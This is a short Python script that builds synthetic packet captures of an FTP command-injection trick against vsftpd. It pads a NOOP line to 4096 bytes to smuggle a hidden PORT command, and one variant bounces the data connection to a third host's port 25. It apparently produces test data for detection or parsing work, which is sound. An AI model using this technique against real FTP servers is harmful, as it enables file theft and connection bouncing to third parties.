import sys; sys.path.insert(0,'.')
from inj_lib import *
# vsftpd reads at most 4096 bytes of a command line: with no LF in them it returns an empty command
# and the rest of the line is read as the next command (netstr.c str_netfd_alloc, left == 0).
def mk(name, hidden, replies, dataport, third=None, pad=4096, refuse=False):
    cap=Cap(); k=Conn(cap,C,47000,S,21); k.hs(); login(k)
    line=('NOOP'+' '*(pad-4))+hidden+'\r\n'
    for i in range(0,len(line),1400): k.send('c',line[i:i+1400])
    k.send('s',replies)
    k.send('c','RETR secret.txt\r\n')
    tgt=third or C
    d=Conn(cap,S,20,tgt,dataport,cisn=70000,sisn=90000)
    d.raw('c','S',ack=0); d.cs+=1
    if refuse:
        d.raw('s','RA',seq=0,ack=d.cs); k.send('s','425 Failed to establish connection.\r\n')
    else:
        d.raw('s','SA'); d.ss+=1; d.raw('c','A')
        k.send('s','150 Opening BINARY mode data connection for secret.txt (2000 bytes).\r\n')
        d.send('c',b'y'*2000); d.close(); k.send('s','226 Transfer complete.\r\n')
    k.send('c','QUIT\r\n'); k.send('s','221 bye\r\n'); k.close()
    cap.write('long_%s.pcap'%name)
mk('port_hidden', 'PORT 10,0,0,2,195,80', '500 Unknown command.\r\n200 PORT command successful. Consider using PASV.\r\n', 50000)
mk('port_hidden_refused', 'PORT 10,0,0,2,195,80', '500 Unknown command.\r\n200 PORT command successful. Consider using PASV.\r\n', 50000, refuse=True)
mk('port_third_hidden', 'PORT 10,9,9,9,0,25', '500 Unknown command.\r\n200 PORT command successful. Consider using PASV.\r\n', 25, third='10.9.9.9')
